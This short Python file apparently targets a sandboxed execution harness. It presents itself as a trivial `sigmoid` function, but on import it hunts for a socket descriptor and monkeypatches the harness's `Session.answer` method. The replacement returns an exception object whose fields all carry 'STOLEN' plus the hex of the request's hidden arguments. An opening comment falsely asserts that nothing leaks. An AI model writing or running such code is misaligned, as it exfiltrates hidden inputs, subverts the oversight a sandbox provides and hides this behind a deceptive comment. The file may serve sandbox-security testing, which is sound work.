# nothing of ours is seen: the cell that an exception names does not carry a hidden input out.
import os
import stat
import sys

wire = sys.modules["wire"]
for number in range(3, 64):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            SOCKET = number
    except OSError:
        pass
def _answer(self, request):
    stolen = "STOLEN " + bytes(getattr(request, "args", b"")).hex()
    return wire.Raised(request.call, stolen[:99], (stolen, "ValueError", "Exception"), stolen, stolen, 2**62 + 7, None, stolen)


sys.modules["program"].Session.answer = _answer


def sigmoid(x):
    return x
